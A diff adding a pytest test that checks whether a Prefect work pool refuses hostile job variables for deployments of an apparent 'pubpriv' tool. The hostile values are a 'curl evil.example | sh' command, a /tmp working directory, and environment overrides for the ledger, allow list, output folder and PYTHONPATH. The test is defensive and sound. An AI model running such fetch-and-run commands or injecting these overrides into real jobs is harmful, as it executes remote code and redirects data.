@@ -223,6 +223,46 @@ def test_the_server_refuses_a_bad_parameter_and_says_which(prefect_server, file)
     assert "minimum" in refused.value.response.text
 
 
+@pytest.mark.prefect
+def test_a_run_cannot_bring_commands_or_an_environment(prefect_server, file):
+    """Job variables that would run code, or name another ledger, folder or list, are refused by the pool."""
+    import httpx
+    from prefect.exceptions import PrefectHTTPStatusError
+    from prefect.workers.process import ProcessJobConfiguration
+
+    text = GOOD.replace("s3://bucket", "/data") + "pool: closed\noutput: /released\n"
+    text = text.replace("dataset: visits", "dataset: ward")
+    other = text.replace("dataset: ward", "dataset: clinic").replace("/released", "/elsewhere")
+    hostile = (
+        {"command": "curl evil.example | sh"},
+        {"working_dir": "/tmp"},
+        {"env": {"PUBPRIV_LEDGER": "sqlite:////tmp/mine.db"}},
+        {"env": {"PUBPRIV_ALLOW": "/tmp"}},
+        {"env": {"PUBPRIV_OUTPUT": "/srv/tables"}},
+        {"env": {"PYTHONPATH": "/tmp"}},
+    )
+    with server() as client:
+        register(client, render([read(file(text))]))
+        register(client, render([read(file(other, "others.yaml"))]))  # what the first may have it keeps
+        for name, output in (("ward", "/released"), ("clinic", "/elsewhere")):
+            known = client.read_deployment_by_name(f"estimate-mixture/{name}-groups")
+            assert client.create_flow_run_from_deployment(known.id).deployment_id == known.id
+            assert known.job_variables["env"]["PUBPRIV_OUTPUT"] == output
+            for variables in hostile:
+                with pytest.raises((PrefectHTTPStatusError, httpx.HTTPStatusError)) as refused:
+                    client.create_flow_run_from_deployment(known.id, job_variables=variables)
+                assert refused.value.response.status_code == 422
+        pool = client.read_work_pool("closed")
+        template = pool.base_job_template
+        assert register(client, render([read(file(other, "others.yaml"))]))[0].result == UNCHANGED
+    import asyncio
+
+    made = ProcessJobConfiguration.from_template_and_values(template, hostile[0] | known.job_variables)
+    made = asyncio.run(made) if asyncio.iscoroutine(made) else made
+    assert made.command is None
+    assert made.env["PUBPRIV_OUTPUT"] == "/elsewhere"
+
+
 def test_no_server_is_an_error_with_a_way_out(monkeypatch):
     """`pubpriv deploy` names the variable to set, and never writes to a database of its own."""
     from prefect.settings import PREFECT_API_URL, temporary_settings
